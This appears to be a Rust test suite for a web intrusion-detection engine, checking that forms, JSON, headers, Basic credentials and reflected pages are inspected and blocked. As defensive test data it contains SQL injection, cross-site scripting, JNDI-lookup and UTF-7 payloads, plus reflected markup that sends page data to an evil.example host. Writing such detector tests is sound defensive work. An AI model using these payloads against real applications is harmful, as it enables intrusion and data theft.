//! Cases are in the README; here is what a case cannot show.

use crate::{
    engine::{Decision, Engine, Moment, Step},
    exchange::{Connection, Entropy, Received, Tls},
    testing::{Ask, Seen, engine},
};
use bytes::Bytes;
use http::{HeaderMap, HeaderName, HeaderValue, Method, Version, header};
use proptest::prelude::*;

const FORM: &str = "application/x-www-form-urlencoded";

fn post(kind: &str, body: &[u8]) -> Ask {
    Ask::new("POST", "/notes").header("sec-fetch-site", "same-origin").header("content-type", kind).body(body)
}

fn rules(seen: &Seen) -> Vec<&str> {
    seen.rules()
}

/// Sends a body in pieces as a host does: its window first, then the rest. What it was refused for, and whether the app had begun.
fn in_pieces(engine: &Engine, kind: &str, pieces: &[&[u8]], declared: bool) -> (Option<String>, bool) {
    let mut headers = HeaderMap::new();
    for (name, value) in [("host", "localhost:8443"), ("sec-fetch-site", "same-origin"), ("content-type", kind)] {
        headers.insert(HeaderName::from_static(name), HeaderValue::from_str(value).unwrap());
    }
    let received = Received {
        method: Method::POST,
        target: Bytes::from_static(b"/notes"),
        authority: None,
        version: Version::HTTP_11,
        headers,
        has_body: true,
    };
    let connection = Connection::new([192, 0, 2, 1].into(), Some(Tls::default().into()));
    let moment = Moment { now_ms: 0, entropy: Entropy([7; 24]) };
    let Step::Ask(pending) = engine.receive(received, connection, moment) else { panic!("answered at once") };
    let Decision::Inspect(mut inspecting) = pending.decide(&[]) else { panic!("not inspected") };
    if declared {
        inspecting.declared(pieces.iter().map(|piece| piece.len() as u64).sum()).unwrap();
    }
    let (mut seen, mut taken) = (Vec::new(), 0);
    while taken < pieces.len() && seen.len() < inspecting.window() {
        seen.extend_from_slice(pieces[taken]);
        taken += 1;
    }
    let (mut body, exchange) = match inspecting.begin(&seen, taken == pieces.len()) {
        Decision::Forward(_, body, exchange) => (body, exchange),
        Decision::Respond(outgoing) => return (outgoing.finish.findings().next().map(|one| one.rule.to_string()), false),
        _ => panic!("neither forwarded nor answered"),
    };
    let rest = std::iter::once(seen.as_slice()).chain(pieces[taken..].iter().copied());
    let mut judged = { rest }.try_for_each(|piece| body.piece(piece));
    if judged.is_ok() && !declared {
        judged = body.end();
    }
    let rule = judged.err().map(|denial| {
        let rule = denial.rule.to_owned();
        let outgoing = exchange.fail(crate::policy::LayerName::Protocol, denial);
        let found: Vec<_> = outgoing.finish.findings().map(|one| format!("{}/{}", one.layer, one.rule)).collect();
        assert_eq!(found, [format!("intrusion/{rule}")], "written down once, under its own layer");
        rule
    });
    (rule, true)
}

#[test]
fn what_stands_behind_the_window_is_cut_off() {
    let engine = engine("[intrusion]\nwindow = \"16B\"");
    let attack = [&b"a=0123456789abcdef&"[..], b"b=x", b"&c=%3Cscript%3Ealert(1)%3C/script%3E"];
    for declared in [true, false] {
        assert_eq!(in_pieces(&engine, FORM, &attack, declared), (Some("html.script".into()), true));
        assert_eq!(in_pieces(&engine, FORM, &[attack[0], attack[1], b"&c=fine"], declared), (None, true));
    }
    let late = in_pieces(&engine, FORM, &[attack[0], b"c=x' OR '1'='1"], true);
    assert_eq!(
        late.0.as_deref(),
        Some("sql.tautology"),
        "the last value of a declared length is judged before its end is passed on"
    );
    let off = crate::testing::engine("[intrusion]\nwindow = \"16B\"\nallow = [\"html\", \"js\"]");
    assert_eq!(in_pieces(&off, FORM, &attack, true), (None, true));
}

#[test]
fn in_report_mode_the_rest_of_a_body_passes() {
    let engine = engine("[intrusion]\nmode = \"report\"");
    let seen = post(FORM, b"a=x' OR '1'='1&b=<script>alert(1)</script>").to(&engine);
    assert_eq!((seen.status, rules(&seen)), (200, vec!["sql.tautology"]));
}

#[test]
fn work_is_bounded_and_said() {
    let hostile = [b"a=".as_slice(), &b"%2525253c".repeat(40_000)].concat();
    let cheap = "[intrusion]\nwork = 1\nwindow = \"1MiB\"\n";
    let seen = post(FORM, &hostile).to(&engine(cheap));
    assert_eq!((seen.status, rules(&seen)), (400, vec!["work"]));
    let seen = post(FORM, &hostile).to(&engine(&format!("{cheap}spent = \"pass\"")));
    assert_eq!((seen.status, rules(&seen)), (200, vec!["work"]), "never a silent pass");
    let prose = [b"a=".as_slice(), &b"It+was+a+dark+and+stormy+night%3B+O'Brien+said+so.+".repeat(1000)].concat();
    let seen = post(FORM, &prose).to(&engine("[intrusion]\nwindow = \"1MiB\""));
    assert_eq!((seen.status, rules(&seen)), (200, vec![]));
}

#[test]
fn what_may_be_doubtful_is_an_event() {
    let pass = "[intrusion]\nambiguous = \"pass\"";
    let twice = || post("application/json", b"{\"a\": 1, \"a\": 2}");
    let torn = || post("application/json", b"{\"a\": ");
    let query = || Ask::get(&format!("/?{}=1", "a".repeat(5_000)));
    for (ask, rule) in [(&twice as &dyn Fn() -> Ask, "ambiguous"), (&torn, "unreadable"), (&query, "unreadable")] {
        let seen = ask().to(&engine(""));
        assert_eq!((seen.status, rules(&seen)), (400, vec![rule]));
        assert_eq!(seen.findings[0].allow, pass, "{rule}");
        let seen = ask().to(&engine(pass));
        assert_eq!((seen.status, rules(&seen)), (200, vec![rule]), "never a silent pass");
    }
}

#[test]
fn a_compressed_body_is_what_the_framework_makes_of_it() {
    let gzip = b"\x1f\x8b\x08\0\0\0\0\0\0\x03\x03\0\0\0\0\0\0\0\0\0";
    let coded = |coding| post("application/octet-stream", gzip).header("content-encoding", coding);
    for policy in ["", "[app]\nframework = \"other\""] {
        let seen = coded("gzip").to(&engine(policy));
        assert_eq!((seen.status, rules(&seen)), (400, vec!["ambiguous"]), "aiohttp would read what is in it");
        assert_eq!(coded("identity").to(&engine(policy)).status, 200);
    }
    assert_eq!(coded("gzip").to(&engine("[app]\nframework = \"flask\"")).status, 200, "Flask gives the bytes to the app");
    let seen = coded("gzip").to(&engine("[intrusion]\nambiguous = \"pass\""));
    assert_eq!((seen.status, rules(&seen)), (200, vec!["ambiguous"]));
}

#[test]
fn a_text_is_judged_before_the_app_gets_any_of_it() {
    let engine = engine("[intrusion]\nwindow = \"32B\"");
    let (script, rest) = (b"see <script>alert(1)</script>...", b" and more of it".as_slice());
    assert_eq!(in_pieces(&engine, "text/plain", &[script, rest], true), (Some("html.script".into()), false));
    assert_eq!(in_pieces(&engine, "text/plain", &[b"see the tags that O'Brien likes ", rest], true), (None, true));
}

#[test]
fn every_kind_of_body_is_read() {
    let script = "<script>alert(1)</script>";
    for (kind, body) in [
        ("application/json", format!("{{\"a\": [{{\"b\": \"{script}\"}}]}}")),
        ("application/vnd.api+json; charset=utf-8", format!("[\"{script}\"]")),
        ("text/plain", format!("{{\"a\": \"{script}\"}}")),
        ("text/plain", format!("see {script}")),
        ("application/xml", format!("<a><b><![CDATA[{script}]]></b></a>")),
        (
            "multipart/form-data; boundary=x",
            format!("--x\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n{script}\r\n--x--\r\n"),
        ),
    ] {
        let seen = post(kind, body.as_bytes()).to(&engine(""));
        assert_eq!((seen.status, rules(&seen)), (403, vec!["html.script"]), "{kind}: {body}");
        let twin = body.replace(script, "O'Brien likes tags");
        let seen = post(kind, twin.as_bytes()).to(&engine(""));
        assert_eq!((seen.status, rules(&seen)), (200, vec![]), "{kind}: {twin}");
        let seen = post(kind, body.as_bytes()).to(&engine("[intrusion]\nmode = \"off\""));
        assert_eq!(seen.status, 200, "{kind}");
    }
    for empty in ["application/json", "application/xml", "multipart/form-data; boundary=x", FORM] {
        assert_eq!(post(empty, b"").to(&engine("")).status, 200, "{empty}");
    }
    let blob = Ask::new("POST", "/upload").header("sec-fetch-site", "same-origin").body(&[b'x'; 100_000]).to(&engine(""));
    assert_eq!((blob.status, rules(&blob)), (200, vec![]), "a text of no type is no form with a long name");
    let picture = [b"\xff\xd8\xff".as_slice(), script.as_bytes()].concat();
    assert_eq!(post("image/jpeg", &picture).to(&engine("")).status, 200, "the content of files is the app's");
    let json = br#"{"q": "<script>alert(1)</script>"}"#;
    for kind in ["application/octet-stream", "image/png", "application/zip"] {
        assert_eq!(post(kind, json).to(&engine("")).status, 403, "{kind}: an app may read JSON whatever the type says");
        assert_eq!(post(kind, br#"{"q": "O'Brien likes tags"}"#).to(&engine("")).status, 200, "{kind}");
    }
    let form = b"\xff\xd8\xff&q=<script>alert(1)</script>";
    assert_eq!(post("image/jpeg", form).to(&engine("[app]\nframework = \"bottle\"")).status, 403, "Bottle reads it as a form");
    assert_eq!(
        post("image/jpeg", b"\xff\xd8\xff\xe0\x00\x10JFIF&=;\xfe").to(&engine("[app]\nframework = \"bottle\"")).status,
        200
    );
}

#[test]
fn heads_are_judged_too() {
    for attack in [
        Ask::get("/users/1%20UNION%20SELECT%20password%20FROM%20users--"),
        Ask::get("/").header("cookie", "theme=x' OR '1'='1"),
        Ask::get("/").header("x-name", "${jndi:ldap:/evil/a}' OR '1'='1"),
        Ask::get("/").header("referer", "https://a.example/?q=<script>alert(1)</script>"),
    ] {
        assert_eq!(attack.to(&engine("")).status, 403);
    }
    let browser = Ask::get("/a?utm_source=x&q=O'Brien+%26+Sons&page=2")
        .header("user-agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0 Safari/537.36")
        .header("cookie", "_ga=GA1.1.1; prefs={\"a\":1,\"b\":\"x y\"}; consent=eyJhIjoxfQ==; sid=\"quoted\"")
        .header("referer", "https://www.example.com/search?q=select+from+the+menu")
        .header("sec-ch-ua", "\"Chromium\";v=\"130\", \"Not?A_Brand\";v=\"99\"")
        .header("if-none-match", "W/\"0815\"");
    let seen = browser.to(&engine(""));
    assert_eq!((seen.status, rules(&seen)), (200, vec![]));
}

#[test]
fn the_log_says_how_to_allow_it() {
    let seen = post(FORM, b"text=<script>alert(1)</script>&password=x' OR '1'='1").to(&engine(""));
    let finding = &seen.findings[0];
    assert_eq!((finding.part.as_str(), finding.rule.as_ref()), ("form text", "html.script"));
    assert_eq!(finding.allow, "[[intrusion.except]]\npath = \"/notes\"\nparameter = \"form text\"\nrules = [\"html.script\"]");
    let seen = post(FORM, b"text=<script>alert(1)</script>").to(&engine(&finding.allow));
    assert_eq!((seen.status, rules(&seen)), (200, vec![]), "the proposed lines allow it");
    let secret = post(FORM, b"password=x' OR '1'='1").to(&engine(""));
    assert!(secret.findings[0].value.contains("masked"), "{:?}", secret.findings);
}

#[test]
fn passwords_may_have_quotes_and_dashes() {
    for password in ["p o'--tato", "x';#9", "a\"--b", "<3 &%$'/*"] {
        let body = format!("name=ada&password={}", password.replace('%', "%25").replace('&', "%26").replace('#', "%23"));
        let seen = post(FORM, body.as_bytes()).to(&engine("[app]\nframework = \"flask\""));
        assert_eq!((seen.status, rules(&seen)), (200, vec![]), "{password}");
    }
    assert_eq!(post(FORM, b"name=ada&password=x' OR '1'='1").to(&engine("")).status, 403);
    assert_eq!(post(FORM, b"name=ada'--&password=x").to(&engine("")).status, 403, "a name is no password");
}

#[test]
fn names_in_a_policy_must_exist() {
    for policy in
        ["[intrusion]\nallow = [\"sqli\"]", "[[intrusion.except]]\nrules = [\"sql.onion\"]", "[intrusion]\nthreshold = 11"]
    {
        assert!(crate::policy::Policy::parse(policy).is_err(), "{policy}");
    }
}

#[test]
fn an_exception_for_a_parameter_that_cannot_be_is_told() {
    let warnings = |name: &str| {
        let policy = format!("[[intrusion.except]]\nparameter = \"{name}\"\nrules = [\"html\"]");
        crate::policy::Policy::parse(&policy).unwrap().warnings.0.len()
    };
    for name in ["form text", "query q*", "body", "path", "name json a", "header x-name", "file*", "f*", "*"] {
        assert_eq!(warnings(name), 0, "{name}");
    }
    for name in ["text", "forms text", "z*", "form.text", ""] {
        assert_eq!(warnings(name), 1, "{name}");
    }
}

proptest! {
    #[test]
    fn pieces_do_not_matter(
        values in proptest::collection::vec("[ a-z'\"<>=/();{}%0-9-]{0,24}", 1..6),
        cuts in proptest::collection::vec(0_usize..200, 0..6),
        attack in any::<bool>(),
    ) {
        let mut body = values.iter().map(|value| format!("a={}", value.replace('%', "%25"))).collect::<Vec<_>>().join("&");
        if attack {
            body.push_str("&b=x' UNION SELECT name FROM users--");
        }
        let mut cuts: Vec<usize> = cuts.into_iter().map(|cut| cut.min(body.len())).chain([0, body.len()]).collect();
        cuts.sort_unstable();
        let pieces: Vec<&[u8]> = cuts.windows(2).map(|pair| &body.as_bytes()[pair[0]..pair[1]]).collect();
        let engine = engine("[intrusion]\nwindow = \"32B\"");
        let (whole, _) = in_pieces(&engine, FORM, &[body.as_bytes()], true);
        let (cut, _) = in_pieces(&engine, FORM, &pieces, true);
        prop_assert_eq!(&whole, &cut);
        prop_assert!(!attack || whole.is_some());
    }

    #[test]
    fn hostile_bodies_never_panic(kind in "(application/json|text/xml|multipart/form-data; boundary=a|text/plain|[a-z/;= ]{0,20})",
                                  body in proptest::collection::vec(any::<u8>(), 0..300)) {
        let _ = in_pieces(&engine(""), &kind, &[&body], true);
    }
}

#[test]
fn a_content_type_may_be_missing() {
    let mut headers = HeaderMap::new();
    headers.insert(header::HOST, HeaderValue::from_static("localhost:8443"));
    let seen = Ask::new("POST", "/notes")
        .header("sec-fetch-site", "same-origin")
        .body(b"{\"a\": \"<script>alert(1)</script>\"}")
        .to(&engine(""));
    assert_eq!(seen.status, 403);
}

#[test]
fn names_count_whatever_they_are_the_name_of() {
    for value in ["1", "true", "null", "[]", "\"x\""] {
        let body = format!("{{\"a\": [{{\"x' UNION SELECT v FROM secret-- \": {value}}}]}}");
        let seen = post("application/json", body.as_bytes()).to(&engine(""));
        assert_eq!((seen.status, rules(&seen)), (403, vec!["sql.union"]), "{value}");
        let twin = format!("{{\"O'Brien & Sons\": {value}, \"a < b\": 1, \"1.5%\": 2}}");
        assert_eq!(post("application/json", twin.as_bytes()).to(&engine("")).status, 200);
    }
}

#[test]
fn names_and_passwords_of_basic_authentication_are_judged() {
    let ask = |credentials: &str| Ask::get("/").header("authorization", credentials).to(&engine(""));
    // `x' UNION SELECT v FROM secret-- :x`, as it is written and as Python reads it all the same.
    let attack = "eCcgVU5JT04gU0VMRUNUIHYgRlJPTSBzZWNyZXQtLSA6eA";
    for credentials in
        [format!("Basic {attack}=="), format!("basic {attack}"), format!("BASIC  {}", attack.replace("TE", "!T*E"))]
    {
        let seen = ask(&credentials);
        assert_eq!((seen.status, rules(&seen)), (403, vec!["sql.union"]), "{credentials}");
        assert!(seen.findings[0].value.contains("masked"));
    }
    // `ann@example.org:p'--x;#9`, a token, and what is no base64.
    for credentials in ["Basic YW5uQGV4YW1wbGUub3JnOnAnLS14OyM5", "Bearer eyJhbGciOiJIUzI1NiJ9.e30.x-_", "Basic =", "Basic"] {
        let seen = ask(credentials);
        assert_eq!((seen.status, rules(&seen)), (200, vec![]), "{credentials}");
    }
}

#[test]
fn structured_fields_are_judged_where_they_are_none() {
    for name in
        ["accept-language", "accept", "origin", "if-none-match", "sec-websocket-protocol", "content-language", "authorization"]
    {
        let seen = Ask::get("/").header(name, "x' UNION SELECT v FROM secret-- ").to(&engine(""));
        assert_eq!(seen.status, 403, "{name}");
    }
    let browser = [
        ("accept-language", "de-CH,de;q=0.9,*;q=0.5"),
        ("if-none-match", "W/\"it's-{0815}$1\""),
        ("accept", "text/html;q=0.9,application/ld+json;profile=\"https://www.w3.org/ns/activitystreams\",*/*"),
        ("via", "1.1 varnish (Varnish/6.0), 1.1 it's"),
    ];
    for (name, value) in browser {
        let seen = Ask::get("/").header(name, value).to(&engine(""));
        assert_eq!((seen.status, rules(&seen)), (200, vec![]), "{name}");
    }
}

#[test]
fn a_charset_in_which_other_bytes_are_quotes_is_refused_where_it_is_heeded() {
    let asks = |kind: &str| {
        (
            Ask::get("/a?q=%2BACc-").header("content-type", kind),
            post(kind, b"{\"q\": \"+ACc-\"}"),
            Ask::get("/a").header("content-type", kind),
        )
    };
    let status = |framework: &str, kind: &str| {
        let engine = engine(&format!("[app]\nframework = \"{framework}\""));
        let (query, body, neither) = asks(kind);
        (query.to(&engine).status, body.to(&engine).status, neither.to(&engine).status)
    };
    for said in [
        "charset=utf-7",
        "Charset=\"UTF-7\"",
        "charset*=utf-8''utf-7",
        "charset*0=ut;charset*1=f-7",
        "charset =utf-7",
        "charset=' utf-7'",
        "charset=\"  utf-7\"",
        "charset=utf-8;charset=cp037",
    ] {
        let kind = format!("application/json; {said}");
        assert_eq!(status("django", &kind), (400, 200, 200), "{said}: a query is decoded by it");
        assert_eq!(status("other", &kind), (400, 400, 200), "{said}");
        assert_eq!(status("flask", &kind), (200, 200, 200), "{said}: nothing is decoded by it");
    }
    for said in [
        "",
        "; charset=utf-8",
        "; charset=\"ISO-8859-1\"",
        ";charset=windows-1252; x=y",
        "; charset=Shift_JIS",
        "; charset='utf-8',",
        "; charset=",
    ] {
        assert_eq!(status("other", &format!("application/json{said}")), (200, 200, 200), "{said}");
    }
}

#[test]
fn two_content_types_are_no_type() {
    let twice = |second: &str| post("image/png", b"q=x").header("content-type", second).to(&engine(""));
    assert_eq!(rules(&twice(FORM)), ["ambiguous"]);
}

#[test]
fn what_is_reflected_cannot_hide_behind_others_nor_be_split() {
    let page = |query: &str, page: &str| {
        let ask = Ask::get(&format!("/search?{query}")).header("sec-fetch-site", "same-origin");
        let seen = ask.answered_with(&engine(""), &[("content-type", "text/html")], page.as_bytes());
        seen.rules().join(",")
    };
    let (form, encoded) = ("<form action=/evil><button>go</button>", "%3Cform+action=/evil%3E%3Cbutton%3Ego%3C/button%3E");
    let decoys = |count: usize| (0..count).map(|at| format!("d{at}=%3Cb{at}&")).collect::<String>();
    assert_eq!(page(&format!("{}q={encoded}", decoys(40)), &format!("<p>{form}")), "reflected-markup");
    let acting: String = (0..300).map(|at| format!("d{at}=%3Cform+action=/{at}%3E&")).collect();
    assert_eq!(page(&acting, "<p>"), "work", "so many that act are nobody's input");
    assert_eq!(
        page(&format!("q=+{encoded}+"), &format!("<p>{}</p>", form.to_uppercase())),
        "reflected-markup",
        "in another case"
    );
    assert_eq!(page("a=%3Cform+x='&b='+action=//evil%3E", "<p><form x=' and ' action=//evil>"), "reflected-markup");
    assert_eq!(
        page("q=%3Cbutton+form=f+formaction=//evil%3E", "<form id=f></form><button form=f formaction=//evil>"),
        "reflected-markup"
    );
    // People search for what the page itself is made of.
    let own = "<form action=/search><p onclick='a()'><a href='javascript:void(0)'>x</a><iframe src=/f></iframe>&lt;form";
    for word in ["%3Cform", "%3Cp", "%3Ca", "%3Ciframe", "%3Cform+action", "%3C/script%3E", "='a()'"] {
        assert_eq!(page(&format!("q={word}"), own), "", "{word}");
    }
}

#[test]
fn a_page_that_may_reflect_is_asked_for_in_a_coding_that_is_read() {
    let saw = |policy: &str, target: &str, accept: &str| {
        let ask = Ask::get(target).header("sec-fetch-site", "same-origin").header("accept-encoding", accept);
        ask.to(&engine(policy)).app_saw("accept-encoding").unwrap_or_default().to_owned()
    };
    let (open, suspect) = ("[intrusion]\nallow = [\"html\"]", "/search?q=%3Cscript%3Ea%3C/script%3E");
    assert_eq!(saw(open, suspect, "gzip, br;q=0.9, deflate, zstd"), "gzip, deflate");
    assert_eq!(saw(open, suspect, "br, *"), "identity");
    assert_eq!(saw(open, suspect, "gzip, deflate"), "gzip, deflate");
    assert_eq!(saw(open, "/search?q=tea", "gzip, br"), "gzip, br");
    assert_eq!(saw("[intrusion]\nallow = [\"html\"]\nreflection = \"0B\"", suspect, "gzip, br"), "gzip, br");
}

#[test]
fn what_is_reflected_acts_in_styles_scripts_and_by_quotes_left_open() {
    let answered = |sent: &str, shown: &str| {
        let policy = "[intrusion]\nallow = [\"html\", \"js\", \"sql\", \"shell\", \"template\", \"url\", \"python\"]";
        let query: String = sent.bytes().map(|byte| format!("%{byte:02x}")).collect();
        let ask = Ask::get(&format!("/search?q={query}")).header("sec-fetch-site", "same-origin");
        let page = format!("<!doctype html><style>p {{ color: red }}</style><script>var t = 'x';{shown}");
        let page = if shown.starts_with('<') {
            format!("<!doctype html><p>You searched for {shown}</p><a href='/'>Home</a><a href=\"/b\">b</a>")
        } else {
            page
        };
        ask.answered_with(&engine(policy), &[("content-type", "text/html")], page.as_bytes()).rules().join(",")
    };
    let escaped = |value: &str| format!("<b>{}</b>", value.replace('&', "&amp;").replace('<', "&lt;").replace('"', "&quot;"));
    for value in [
        "<style>p{background:url(//evil.example/?a)}</style>",
        "<style>@import '//evil.example/a.css';",
        "<img src='//evil.example/?",
        "<a href=\"//evil.example/?",
        "<table background='//evil.example/?",
        "<plaintext>",
        "<base href=//evil.example/>",
        "<meta http-equiv=refresh content='0;url=//evil.example/'>",
        "<link rel=stylesheet href=//evil.example/a.css>",
        "<form action=//evil.example/><input name=a>",
        "<svg><animate attributename=href values=javascript:alert(1) />",
        "<div><template shadowrootmode=open><p>x</template></div>",
    ] {
        assert_eq!(answered(value, value), "reflected-markup", "{value}");
        assert_eq!(answered(value, &escaped(value)), "", "{value}");
    }
    for value in ["\";alert(1)//", "\"-alert(1)-\""] {
        assert_eq!(answered(value, &format!("var q = \"{value}\";</script>")), "reflected-markup", "{value}");
        assert_eq!(answered(value, &format!("var q = \"{}\";</script>", value.replace('"', "\\\""))), "", "{value}");
        assert_eq!(answered(value, &format!("</script><p>{value}")), "", "{value}");
    }
    for ordinary in
        ["<style>", "<textarea>", "<img src=\"https://example.com/a.png\" alt=\"a\">", "<!--", "<template>", "O'Brien (x=1)"]
    {
        assert_eq!(answered(ordinary, &format!("<i>{ordinary}</i>")), "", "{ordinary}");
        assert_eq!(answered(ordinary, &format!("var q = \"{ordinary}\";</script>")), "", "{ordinary}");
    }
}
